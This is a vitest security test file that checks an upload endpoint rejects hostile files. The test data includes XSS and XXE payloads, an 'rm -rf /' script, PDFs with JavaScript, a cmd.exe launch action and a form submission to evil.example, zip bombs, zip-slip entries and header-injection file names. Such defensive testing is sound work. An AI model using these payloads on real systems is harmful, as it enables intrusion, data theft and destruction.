// The upload battery: extension by content by name by size, archives that unfold, active content. Nothing of it may come in. Source: security.md K15, K16.
import { plantHomes } from '../../tests/contract/rows.ts'
import { Readable } from 'node:stream'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { world, type Client, type World } from '../../tests/world.ts'
import { ATTACH_PATH } from './attachments.server.ts'
import { ACCEPTED, TEXT_TYPES } from './intake/content.server.ts'
import { md5, office, PDF, pdfOf, picture, chunksOf, video, zipOf } from './testing.server.ts'

let w: World
let county: Client
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])
const BMP = Buffer.alloc(58)
BMP.write('BM', 'latin1')
BMP.writeUInt32LE(58, 2)
BMP.writeUInt32LE(54, 10)
BMP.writeUInt32LE(40, 14)
/** Honest contents by type. */
const GOOD: Record<string, Buffer> = {
  pdf: PDF,
  bmp: BMP,
  doc: OLE,
  xls: OLE,
  docx: office('docx'),
  xlsx: office('xlsx'),
  ofd: zipOf([{ name: 'OFD.xml' }, { name: 'Doc_0/Document.xml' }]),
  zip: zipOf([{ name: '照片/一.jpg' }]),
  mp4: video(2000),
  txt: Buffer.from('\ufeff备注：第一行\r\n第二行\t完。'),
  csv: Buffer.concat([Buffer.from('cbfbm,'), Buffer.from('b3d0b0fcb7bd', 'hex'), Buffer.from('\r\n1,2\r\n')]),
  json: Buffer.from('{"cbfmc":"张三"}'),
  xml: Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<cbf mc="张三"/>'),
  log: Buffer.from('2027-01-04 09:00:00 ok\n'),
}
beforeAll(async () => {
  w = await world()
  await plantHomes(w, '77')
  county = await w.as('county')
  const [png, jpg] = [await picture('png'), await picture('jpeg')]
  Object.assign(GOOD, { png, jpg, jpeg: jpg })
})
afterAll(() => w?.end())

/** Contents that no extension may carry. */
const BAD: Record<string, Buffer> = {
  html: Buffer.from('<!doctype html><script>alert(1)</script>'),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]),
  elf: Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(200)]),
  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
  gif: Buffer.from('GIF89a/*<script>*/=1'),
  text: Buffer.from('plain text that is long enough to have a head of its own'),
  empty: Buffer.alloc(0),
  short: Buffer.from([0xff]),
  jpgHead: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]),
  pngHead: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<script>')]),
  bmpHead: Buffer.from('BM<script>alert(document.domain)</script>.................'),
  bmpLonger: Buffer.concat([BMP, Buffer.from('<script>')]),
  zipHead: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100)]),
  pdfHead: Buffer.from('%PDF-1.4\n%%EOF\n'),
  pdfCut: PDF.subarray(0, -30),
  pdfLater: Buffer.concat([Buffer.from('<html>'), PDF]),
  oleHead: Buffer.concat([Buffer.from('d0cf11e0', 'hex'), Buffer.from('<script>'), Buffer.alloc(100)]),
  blankThenPage: Buffer.from('\ufeff\r\n  <HTML><body onload=alert(1)>'),
  wide: Buffer.from('\ufeffwide words', 'utf16le'),
  mixed: Buffer.concat([Buffer.from('备注'), Buffer.from([0xff, 0xfe, 0x20])]),
  nulLater: Buffer.concat([Buffer.alloc(100_000, 'a'), Buffer.from([0])]),
  xhtml: Buffer.from(`<a xmlns="http://www.w3.org/1999/xhtml">${'b'.repeat(70_000)}</a>`),
  styled: Buffer.from('<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>'),
  postscript: Buffer.from('%!PS-Adobe-3.0'),
  rich: Buffer.from('{\\rtf1 a}'),
}
const KIN: readonly (readonly string[])[] = [['jpg', 'jpeg'], ['doc', 'xls'], TEXT_TYPES]
const kin = (a: string, b: string) => a === b || KIN.some((k) => k.includes(a) && k.includes(b))
/** Words are honest under the names of text, but no XML; there a page is none, whatever it says of itself. */
const isHonest = (what: string, extension: string) => ['text', 'xhtml'].includes(what) && kin(extension, 'txt') && extension !== 'xml'
const send = (name: string, bytes: Buffer) => county.upload(`${ATTACH_PATH}/upload`, { name, bytes })
const stored = async () => Number((await w.db.pool.query('select count(*) as n from attach')).rows[0].n)

test('honest files of every type are taken', async () => {
  expect(Object.keys(GOOD).sort()).toEqual([...ACCEPTED].sort())
  for (const [extension, bytes] of Object.entries(GOOD)) expect([extension, (await send(`样张.${extension}`, bytes)).msg]).toEqual([extension, '操作成功'])
  expect((await send('样张.PDF', PDF)).data.extension).toBe('pdf')
})

test('no content comes in under an extension that is not its own', async () => {
  const before = await stored()
  const escaped: string[] = []
  for (const extension of ACCEPTED) {
    // docx, xlsx and ofd are zips, and a person may call one so
    const wrong = [
      ...Object.entries(BAD).filter(([what]) => !isHonest(what, extension)),
      ...Object.entries(GOOD).filter(([g]) => !kin(g, extension) && !(extension === 'zip' && /docx|xlsx|ofd/.test(g))),
    ]
    for (const [what, bytes] of wrong) {
      const a = await send(`a.${extension}`, bytes)
      if (a.code !== 400 || !a.msg.startsWith('上传失败，')) escaped.push(`${what} as ${extension}: ${a.code} ${a.msg}`)
    }
  }
  expect(escaped).toEqual([])
  expect(await stored()).toBe(before)
})

test('no name brings in another extension, a path or an empty name', async () => {
  const names =
    'exe html htm svg svgz xhtml xml js mjs css php jsp asp sh bat cmd hta swf jar war msi lnk reg pdf.exe pdf. pdf.html gif webp tiff heic txt json docm xlsm pptm rar 7z'
  const escaped: string[] = []
  for (const extension of names.split(' ')) {
    const a = await send(`a.${extension}`, extension === 'pdf.' ? BAD.html! : PDF)
    if (a.code !== 400) escaped.push(`${extension}: ${a.code}`)
  }
  for (const name of ['', '.pdf', '..', 'pdf', 'a.pdf/', 'a.pdf::$DATA', 'a.pdf%00.exe', 'a.pdf;.html', 'CON']) {
    const a = await send(name.replaceAll('"', ''), PDF)
    if (a.code !== 400) escaped.push(`${name}: ${a.code} ${a.data?.name}`)
  }
  for (const raw of [
    '../../etc/x.pdf',
    '..\\..\\x.pdf',
    '/abs/x.pdf',
    'C:\\x.pdf',
    'a\u202e.pdf',
    'a\u200b.pdf',
    '<img src=x>.pdf',
    'a\r\nSet-Cookie: x.pdf',
  ]) {
    const a = await county.upload(`${ATTACH_PATH}/upload`, { name: 'x.pdf', bytes: PDF }, { fileName: raw })
    if (a.code === 200 && /[\\/:<>"|?*\p{Cc}\p{Cf}]/u.test(a.data.name)) escaped.push(`${raw}: ${a.data.name}`)
    if (a.code === 200) {
      const { headers } = await county.get(`${ATTACH_PATH}/download`, { id: a.data.id })
      if (/[\r\n]/.test(String(headers['content-disposition'])) || headers['set-cookie']) escaped.push(`${raw}: header`)
    }
  }
  expect(escaped).toEqual([])
  expect((await send(`${'名'.repeat(64)}.pdf`, PDF)).code).toBe(200)
  expect((await send(`${'名'.repeat(65)}.pdf`, PDF)).key).toBe('file-name')
})

/** Objects of a PDF packed into one stream, as writers since 1.5 do; `dictionary`: what its stream says of itself. */
const packed = (objects: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'): string => {
  const bytes = deflateSync(Buffer.from(`9 0 ${objects}`))
  return `<<${dictionary}/Length ${bytes.length}>>stream\n${bytes.toString('latin1')}\nendstream`
}
const bytesOf = (text: string) => Buffer.from(text, 'latin1')
const SCRIPT = '/S/JavaScript/JS(app.alert\\(1\\))'

test('a PDF that does something when it is opened, or that cannot be looked through, is refused in both languages; what only leads somewhere is taken', async () => {
  const before = await stored()
  const at = (open: string) => pdfOf(`<</Type/Catalog/OpenAction ${open}>>`)
  const script = ['PDF含有脚本', 'the PDF has a script']
  const file = ['PDF含有内嵌文件', 'the PDF has an embedded file']
  const hidden = ['PDF的内部结构无法检查', 'the inner structure of the PDF cannot be inspected']
  const refused: [Buffer, string[]][] = [
    [at(`<<${SCRIPT}>>`), script],
    [at('<</S/Java#53cript/JS(x)>>'), script],
    [at('<</S /#4a#61#76#61#53#63#72#69#70#74 /JS 3 0 R>>'), script],
    [pdfOf(`<</Type/Catalog/Names<</JavaScript<</Names[(a)2 0 R]>>>>>>`), script],
    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`))), script],
    // one that does not say what it is, or says it is something else
    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`, '/N 1/F#69rst 4/Filter[/FlateDecode]'))), script],
    [pdfOf('<</Type/Catalog>>', bytesOf(packed(`<<${SCRIPT}>>`, '/Subtype/Image'))), script],
    [pdfOf(Buffer.concat([Buffer.alloc(2 ** 20 - 30, ' '), Buffer.from(`<<${SCRIPT}>>`)])), script],
    [at('<</S/Launch/F(cmd.exe)>>'), ['PDF含有启动程序的动作', 'the PDF has an action that starts a program']],
    [at('<</S/SubmitForm/F(http://evil.example)>>'), ['PDF含有提交数据的动作', 'the PDF has an action that sends data']],
    [pdfOf('<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>'), file],
    [pdfOf('<</Type/Catalog>>', '<</Type/Filespec/EF<</F 3 0 R>>>>', '<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream'), file],
    [pdfOf('<</Type/Catalog/AcroForm<</XFA[(a)2 0 R]>>>>'), ['PDF含有动态表单', 'the PDF has a form with scripts']],
    [pdfOf('<</Type/Catalog/Encrypt 5 0 R>>'), ['PDF已加密，无法检查', 'the PDF is encrypted and cannot be inspected']],
    [pdfOf('<</Type/Catalog>>', bytesOf(packed('x', '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]'))), hidden],
    [pdfOf('<</Type/Catalog>>', bytesOf(packed(' '.repeat(40 * 2 ** 20)))), hidden],
  ]
  for (const [bytes, [zh, en]] of refused) {
    const a = await send('a.pdf', bytes)
    expect([a.code, a.key, a.msg]).toEqual([400, 'file-unsafe', `上传失败，${zh}`])
    const again = await county.upload(`${ATTACH_PATH}/upload`, { name: 'a.pdf', bytes }, {}, { 'accept-language': 'en' })
    expect(again.msg).toBe(`Upload failed: ${en}`)
  }
  expect(await stored()).toBe(before)
  const taken = [at('[2 0 R/Fit]'), at('<</S/GoTo/D[2 0 R/Fit]>>'), pdfOf('<</S/URI/URI(https://example.org)>>'), pdfOf(bytesOf(packed('<</A 1>>')))]
  for (const bytes of taken) expect((await send('a.pdf', bytes)).msg).toBe('操作成功')
})

test('a PDF that lies in the store from before is shown in place only when it does nothing', async () => {
  const { id, ossName } = (await send('旧.pdf', PDF)).data
  const old = await w.storage.put(pdfOf(`<</Type/Catalog/OpenAction<<${SCRIPT}>>>>`), '000000')
  const shown = async () => String((await county.get(`${ATTACH_PATH}/preview`, { id })).headers['content-disposition']).split(';')[0]
  expect(await shown()).toBe('inline')
  // files of before digests were kept have none
  await w.db.pool.query('update attach set "ossName" = $1, sha256 = null where id = $2', [old, id])
  expect(await shown()).toBe('attachment')
  await w.db.pool.query('update attach set "ossName" = $1 where id = $2', [ossName, id])
})

/** A ZIP whose entries share the same packed bytes: it unfolds to far more than it holds. */
function overlapping(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(40 * 2 ** 20))
  const one = zipOf([{ name: 'a', bytes: Buffer.alloc(40 * 2 ** 20) }])
  const head = one.subarray(one.length - 22 - 47, one.length - 22)
  const heads = Array.from({ length: 9 }, (_, i) => {
    const h = Buffer.from(head)
    h.write('abcdefghi'[i]!, 46, 'latin1')
    return h
  })
  const end = Buffer.from(one.subarray(-22))
  end.writeUInt16LE(9, 8)
  end.writeUInt16LE(9, 10)
  end.writeUInt32LE(9 * 47, 12)
  expect(one.length).toBeLessThan(packed.length + 200)
  return Buffer.concat([one.subarray(0, one.length - 22 - 47), ...heads, end])
}

test('no archive unfolds, leads elsewhere, hides an archive or a program; memory stays flat', async () => {
  const MB = 2 ** 20
  const zero = Buffer.alloc(101 * MB)
  const bombs: Record<string, Buffer> = {
    entry: zipOf([{ name: 'a', bytes: zero }]),
    total: zipOf(Array.from({ length: 3 }, (_, i) => ({ name: `${i}`, bytes: Buffer.alloc(80 * MB) }))),
    liar: zipOf([{ name: 'a', bytes: zero, declared: 10 }]),
    overlapping: overlapping(),
    many: zipOf(Array.from({ length: 501 }, (_, i) => ({ name: `${i}.txt` }))),
    deep: zipOf([{ name: `${'d/'.repeat(20)}a` }]),
    up: zipOf([{ name: '../a.txt' }]),
    upInside: zipOf([{ name: 'a/../../b.txt' }]),
    root: zipOf([{ name: '/etc/passwd' }]),
    drive: zipOf([{ name: 'C:\\a.txt' }]),
    back: zipOf([{ name: '..\\a.txt' }]),
    nul: zipOf([{ name: 'a\0.txt' }]),
    link: zipOf([{ name: 'a', mode: 0o120777, bytes: Buffer.from('/etc/passwd') }]),
    nested: zipOf([{ name: 'b.zip', bytes: zipOf([{ name: 'a' }]) }]),
    nestedHidden: zipOf([{ name: 'b.jpg', bytes: zipOf([{ name: 'a' }]) }]),
    gzip: zipOf([{ name: 'b.jpg', bytes: Buffer.from([0x1f, 0x8b, 8, 0]) }]),
    twice: zipOf([{ name: 'a' }, { name: 'a' }]),
    encrypted: zipOf([{ name: 'a', flags: 1 }]),
    program: zipOf([{ name: 'a.exe' }]),
    page: zipOf([{ name: 'a.html' }]),
    drawing: zipOf([{ name: 'a.svg' }]),
    cut: GOOD.zip!.subarray(0, GOOD.zip!.length - 30),
  }
  const escaped: string[] = []
  const before = process.memoryUsage().rss
  let peak = 0
  const ways: [string, string, Buffer][] = [
    ...Object.entries(bombs).map(([what, bytes]) => [what, 'zip', bytes] as [string, string, Buffer]),
    ['macro', 'docx', office('docx', [{ name: 'word/vbaProject.bin' }])],
    ['macro', 'xlsx', office('xlsx', [{ name: 'xl/vbaProject.bin' }])],
    ['macro sheet', 'xlsx', office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml' }])],
    ['macro', 'doc', ole('Macros', 'VBA')],
    ['macro', 'xls', ole('Workbook', '_VBA_PROJECT_CUR')],
    ['macro in an archive', 'zip', zipOf([{ name: 'a.doc', bytes: ole('_VBA_PROJECT') }])],
    ['bomb', 'xlsx', office('xlsx', [{ name: 'xl/sheet.xml', bytes: zero }])],
    ['docx', 'xlsx', office('docx')],
    ['no types', 'docx', zipOf([{ name: 'word/document.xml' }])],
    ['archive', 'docx', office('docx', [{ name: 'word/a.bin', bytes: zipOf([{ name: 'a' }]) }])],
  ]
  for (const [what, extension, bytes] of ways) {
    const a = await send(`a.${extension}`, bytes)
    if (a.code !== 400 || !a.msg.startsWith('上传失败，')) escaped.push(`${what}: ${a.code} ${a.msg}`)
    peak = Math.max(peak, process.memoryUsage().rss - before)
  }
  expect(escaped).toEqual([])
  expect(peak).toBeLessThan(200 * MB)
})

/** A compound file with entries of these names, as its directory has them: one sector of head, then 128 bytes each. */
function ole(...entries: string[]): Buffer {
  const head = Buffer.alloc(512)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head)
  const entry = (name: string, kind: number) => {
    const e = Buffer.alloc(128)
    e.write(name, 'utf16le')
    e.writeUInt16LE((name.length + 1) * 2, 64)
    e[66] = kind
    return e
  }
  return Buffer.concat([head, entry('Root Entry', 5), ...entries.map((n) => entry(n, 1)), Buffer.alloc(512)])
}

test('an old Office file without a program is taken, also when its text speaks of one', async () => {
  expect((await send('a.doc', Buffer.concat([ole('WordDocument', '1Table'), Buffer.from('  _VBA_PROJECT', 'utf16le')]))).msg).toBe('操作成功')
  expect((await send('a.xls', ole('Workbook'))).msg).toBe('操作成功')
})

/** A white PNG of so many rows and columns, of one bit each. */
function white(side: number): Buffer {
  const number = (n: number) => Buffer.from(Uint32Array.of(n).buffer).swap32()
  const piece = (type: string, bytes: Buffer) => {
    const named = Buffer.concat([Buffer.from(type, 'latin1'), bytes])
    return Buffer.concat([number(bytes.length), named, number(crc32(named))])
  }
  const rows = Buffer.alloc((1 + Math.ceil(side / 8)) * side, Buffer.concat([Buffer.alloc(1), Buffer.alloc(Math.ceil(side / 8), 0xff)]))
  const head = piece('IHDR', Buffer.concat([number(side), number(side), Buffer.from([1, 0, 0, 0, 0])]))
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), head, piece('IDAT', deflateSync(rows)), piece('IEND', Buffer.alloc(0))])
}

test('a picture that unfolds to more pixels than any camera has is refused', async () => {
  expect((await send('a.png', white(150))).msg).toBe('操作成功')
  expect((await send('a.png', white(15_000))).key).toBe('file-pixels')
})

test('what does not come in at the door for whole files does not come in by chunks', async () => {
  const before = await stored()
  const escaped: string[] = []
  for (const extension of ACCEPTED)
    for (const [what, bytes] of Object.entries(BAD)) {
      if (bytes.length === 0 || isHonest(what, extension)) continue
      // one file a name: what was looked at under another one must not count here
      const own = Buffer.concat([bytes, Buffer.from(extension)])
      const [chunk] = chunksOf(own, `a.${extension}`, own.length)
      const sent = await county.upload(`${ATTACH_PATH}/upload-chunk`, { name: 'blob', bytes: own }, chunk!.fields)
      const a = sent.code === 200 ? await county.post(`${ATTACH_PATH}/merge-chunk`, { attachMd5: md5(own), businessId: '77' }) : sent
      if (a.code !== 400 || !a.msg.startsWith('上传失败，')) escaped.push(`${what} as ${extension}: ${a.code} ${a.msg}`)
    }
  expect(escaped).toEqual([])
  expect(await stored()).toBe(before)
})

test('a file above the limit is refused in its words, however honest it is, and nothing of it stays', async () => {
  const before = await stored()
  const [mark, block] = ['----chengbao-battery', Buffer.alloc(2 ** 20)]
  const head = `--${mark}\r\nContent-Disposition: form-data; name="file"; filename="a.mp4"\r\nContent-Type: video/mp4\r\n\r\n`
  function* body() {
    yield Buffer.concat([Buffer.from(head), video(2000)])
    for (let mb = 0; mb < 200; mb++) yield block
    yield Buffer.from(`\r\n--${mark}--\r\n`)
  }
  const a = await county.send('POST', `${ATTACH_PATH}/upload`, {
    body: Readable.from(body()),
    headers: { 'content-type': `multipart/form-data; boundary=${mark}` },
  })
  expect([a.code, a.msg]).toEqual([413, '上传失败，上传文件不能超过 204800kb'])
  expect(await stored()).toBe(before)
})
